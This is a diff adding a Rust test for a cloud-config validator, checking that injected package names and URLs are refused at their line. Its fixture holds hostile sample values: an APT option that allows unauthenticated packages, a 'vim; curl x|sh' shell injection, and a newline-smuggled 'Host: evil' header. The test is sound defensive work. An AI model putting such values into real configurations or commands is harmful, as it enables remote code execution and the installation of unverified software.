@@ -712,3 +712,31 @@ fn a_non_ca_an_expired_ca_and_a_future_ca_are_refused_and_the_trust_store_is_unt
         common::assert_same(&before, &common::snapshot(&env.root));
     }
 }
+
+#[test]
+fn option_like_or_shell_package_names_and_urls_with_a_newline_are_refused_at_their_line() {
+    // reliability §5 #29; packages that pass are given after `--` (see steps.rs).
+    let env = TestEnv::empty();
+    let sha = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881";
+    let f = env.yaml(
+        "p.yaml",
+        &format!(
+            "#cloud-config\npackages:\n  - \"-oAPT::Get::AllowUnauthenticated=true\"\n  - \"vim; curl x|sh\"\n  - ok-pkg\nstages:\n  boot:\n    - name: dl\n      downloads:\n        - url: \"https://example.com/a\\nHost: evil\"\n          path: /opt/a\n          sha256: \"{sha}\"\n"
+        ),
+    );
+    let v = validate(&[&f], false);
+    assert_eq!(v.code, 1, "{}", v.stderr);
+    let file = f.display().to_string();
+    for (at, message) in [
+        ("3:5", "is not a valid package name"),
+        ("4:5", "`vim; curl x|sh` is not a valid package name"),
+        (
+            "10:16",
+            "url `https://example.com/a\\nHost: evil` must be an http:// or https:// URL",
+        ),
+    ] {
+        let line = v.line(&format!("{file}:{at}: error: "));
+        assert!(line.contains(message), "{line} should say {message}");
+    }
+    assert!(v.stderr.contains("3 error(s)"), "{}", v.stderr);
+}
